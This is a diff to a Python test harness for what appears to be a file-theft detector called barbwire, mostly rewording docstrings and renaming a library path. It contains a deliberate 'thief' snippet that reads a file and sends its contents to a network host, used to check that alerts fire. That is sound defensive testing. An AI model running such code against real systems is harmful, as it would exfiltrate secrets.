@@ -1,10 +1,10 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""The stage of the benign tests: a mount namespace with its own /etc, /run and users, so that logins, jobs and
-account changes are real and nothing of this machine changes; barbwired with the default policy; and the two
-questions that every case asks: was it silent, and is a theft of the same file told.
+"""The stage of the benign tests: a mount namespace with its own /etc, /run and users, so that logins, jobs and account
+changes are real and nothing of this machine changes; barbwired with the default policy; and the two checks of every
+case: it raises no alert, and a theft of the same file does.
 
-The namespace is root's, with this machine's root file system in it, like a service's with PrivateTmp=: the
-default policy takes its programs for the host's."""
+Root creates the namespace, with the root file system of this machine in it, as for a service with PrivateTmp=, so that
+the rules of the default policy apply to its programs."""
 
 import contextlib
 import os
@@ -12,7 +12,7 @@ import shutil
 import subprocess
 import sys
 
-sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
 
 import harness
 from net import HOST_V4, Net
@@ -23,14 +23,14 @@ PASSWORD = "decoy-not-a-password"
 USERS = ("root", "ana")
 PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
 
-# A wrong program, and a person's way to write one.
+# A program that no rule names, as a person would write one.
 THIEF = """
 import socket, sys
 secret = open(sys.argv[1], "rb").read()
 socket.create_connection((sys.argv[2], 443)).sendall(secret[:4096])
 """
 
-# What the namespace gets of its own. A passwd line changed here is a passwd line that PAM and sshd see.
+# The directories that the namespace has of its own. PAM and sshd see the changed line of passwd.
 SETUP = """
 set -e
 mount -t tmpfs -o mode=755 tmpfs "$1"
@@ -52,7 +52,7 @@ exec cat >/dev/null
 
 
 class World:
-    """with World(root) as world: programs that world.command() names run in it."""
+    """with World(root) as world: commands from world.command() run in it."""
 
     def __init__(self, home):
         self.home = home
@@ -79,9 +79,9 @@ class World:
         return self.home.path.decode() if user == "ana" else f"{self.root}/home/{user}"
 
     def command(self, user, command, **environment):
-        """As if that user had logged in and typed it. Everything in front of it becomes it, by exec."""
+        """A command as if that user had logged in and typed it. Everything before it is replaced by exec."""
         home = self.home_of(user)
-        # What it prints goes to a terminal: no pager must wait there for a key.
+        # Its output may be a terminal: no pager may wait there for a key.
         settings = {"HOME": home, "USER": user, "LOGNAME": user, "PATH": PATH, "LC_ALL": "C", "TERM": "dumb",
                     "PAGER": "cat", **environment}
         identity = [] if user == "root" else ["setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups",
@@ -90,7 +90,7 @@ class World:
                 *[f"{name}={value}" for name, value in settings.items()], *command]
 
     def do(self, *command, user="root", stdin=None):
-        """Part of the preparation: must succeed. Without the network."""
+        """Runs a command of the preparation, which must succeed. Without the network."""
         result = subprocess.run(self.command(user, command), input=stdin, capture_output=True, text=True,
                                 timeout=60)
         if result.returncode != 0:
@@ -98,25 +98,25 @@ class World:
         return result.stdout
 
     def write(self, user, name, text, mode=0o600):
-        """A file below that user's home; returns its path."""
+        """Writes a file below the home of that user; returns its path."""
         path = os.path.join(self.home_of(user), name)
         self.do("mkdir", "-p", os.path.dirname(path), user=user)
         self.do("sh", "-c", 'umask 077; cat >"$1"; chmod "$2" "$1"', "sh", path, f"{mode:o}", user=user, stdin=text)
         return path
 
     def stand_in(self, path):
-        """A program of root's at a real program's path below /usr/local, for one that is not in Debian: reads
-        the file in its second argument and connects to the third and fourth."""
+        """Installs a program for root at the path of a real one below /usr/local, for programs that are not in Debian:
+        it reads the file in its second argument, and connects to the third and fourth."""
         require(path.startswith("/usr/local/"), path)
         self.do("install", "-D", "-m", "755", harness.program("technique-out-tcp"), path)
 
     def add_npm(self):
-        """The machine's own npm if it has one, else its makers', where "npm install -g npm" would put it."""
+        """Uses the npm of the machine if it has one, else installs that of its publisher, like "npm install -g npm"."""
         if shutil.which("npm", path=PATH):
             return
         if not shutil.which("node", path=PATH):
             raise Skip("nodejs is not installed", environment=True)
-        fetched = subprocess.run([os.path.join(harness.SOURCE_ROOT, "tests/lib/npm-tarball")], capture_output=True,
+        fetched = subprocess.run([os.path.join(harness.SOURCE_ROOT, "tests/harness/npm-tarball")], capture_output=True,
                                  text=True)
         if fetched.returncode == 77:
             raise Skip(fetched.stderr.strip(), environment=True)
@@ -140,7 +140,7 @@ class Scene:
         self.bw, self.net, self.home, self.world = bw, net, home, world
 
     def run(self, command, user="root", stdin=None, timeout=60, host=False, needs=None, **environment):
-        """In the world, from the thief's network or the host's. CompletedProcess."""
+        """Runs a command in the world, in the network of the thief or of the host; returns CompletedProcess."""
         needs = needs or command[0]
         if not shutil.which(needs, path=PATH):
             raise Skip(f"{needs} is not installed", environment=True)
@@ -157,7 +157,7 @@ class Scene:
         return subprocess.CompletedProcess(command, process.returncode, out, err)
 
     def silent(self, command, user="root", status=0, **kwargs):
-        """Runs it, then proves that nothing since was an alert but the marker thefts. Returns what it printed."""
+        """Runs a command, then proves that only marker thefts raised alerts since. Returns its output."""
         before = len(self.bw.alerts)
         result = self.run(command, user, **kwargs)
         if status is not None:
@@ -173,7 +173,7 @@ class Scene:
         self.require_silence(before)
 
     def alerts_since(self, before):
-        """But the marker thefts, and what another test does with its own decoys on this machine meanwhile."""
+        """No alerts, except for marker thefts, and for decoys of another test that runs on this machine."""
         def is_foreign(path):
             return path.startswith("/tmp/barbwire-") and not path.startswith(f"{self.world.root}/")
 
@@ -183,12 +183,13 @@ class Scene:
     def require_silence(self, before):
         self.bw.prove_delivered(self.net, self.home)
         noise = self.alerts_since(before)
-        told = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files']} {a['destination']} "
+        text = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files']} {a['destination']} "
                          f"{a['lineage']}" for a in noise)
-        require(not noise, f"{len(noise)} alerts:\n{told}")
+        require(not noise, f"{len(noise)} alerts:\n{text}")
 
     def theft(self, path, name):
-        """The same file in a wrong program's hands is told, as of that class: the silence means something."""
+        """The same file, read by a program that no rule names, raises an alert of that class: the silence means
+        something."""
         path = path.encode() if isinstance(path, str) else path
         before = len(self.bw.alerts)
         result = self.run([sys.executable, "-c", THIEF, os.fsdecode(path), HOST_V4], needs="/usr/bin/env")
@@ -196,7 +197,7 @@ class Scene:
         alert = self.bw.wait(lambda: next((a for a in self.bw.alerts[before:] if harness.touches(a, path)), None),
                              harness.ALERT_TIMEOUT, f"theft of {path}")
         classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path)]
-        require(name in str(classes), f"{path} is told as {classes}, not {name}")
+        require(name in str(classes), f"{path} is of {classes}, not of {name}")
         return alert
 
 
@@ -209,6 +210,6 @@ def scene(policy_dirs=(harness.DEFAULT_POLICY,)):
             yield Scene(bw, net, home, world)
 
 
-def whole(bw):
+def no_loss(bw):
     bw.stop()
-    bw.require_whole()
+    bw.require_no_loss()
